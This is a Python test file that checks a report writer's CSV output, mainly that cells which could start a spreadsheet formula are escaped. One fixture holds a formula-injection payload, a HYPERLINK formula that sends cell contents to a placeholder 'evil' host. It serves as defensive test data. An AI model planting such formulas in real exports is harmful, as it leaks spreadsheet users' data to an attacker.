"""The format `csv` can be read by programs and opened by people."""

from __future__ import annotations

import csv
from dataclasses import replace
from io import StringIO
from typing import TYPE_CHECKING

import pytest

from tutela.reports import write
from tutela.reports.csv_rows import COLUMNS, cell

if TYPE_CHECKING:
    from tutela.engine.model import Report


def rows(report: Report) -> list[list[str]]:
    """The rows of a report, as a program reads them."""
    stream = StringIO()
    write(report, "csv", stream)
    text = stream.getvalue()

    assert text.startswith("\ufeff")
    return list(csv.reader(StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1", "'  =1"),
        ("\t=1", "'=1"),
        ("\r\n=1", "'=1"),
        ("\u200b=1", "\\u200b=1"),
        ("\uff1d1", "'\uff1d1"),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        ("", ""),
        ("客户", "客户"),
        ("\x00=1", "\\x00=1"),
    ],
)
def test_no_cell_is_a_formula(text: str, shown: str) -> None:
    """What would start one gets an apostrophe; characters that hide it are shown."""
    assert shown == cell(text)


def test_every_finding_is_one_row(accepted: Report) -> None:
    """Also those that do not count, each with the same cells, whatever their texts hold."""
    head, *body = rows(accepted)

    assert list(COLUMNS) == head
    assert len(accepted.findings) == len(body)
    assert {len(COLUMNS)} == {len(row) for row in body}
    assert sorted(found.fingerprint for found in accepted.findings) == sorted(
        row[head.index("fingerprint")] for row in body
    )
    assert 2 == [row[head.index("counts")] for row in body].count("false")


def test_hostile_names_are_neutralised(report: Report) -> None:
    """A column may be called like a formula."""
    evil = '=HYPERLINK("http://evil/?"&A1,"x")'
    named = report.findings[0]._replace(resource_id=evil)
    head, row = rows(replace(report, findings=(named,)))

    assert f"'{evil}" == row[head.index("resource")]
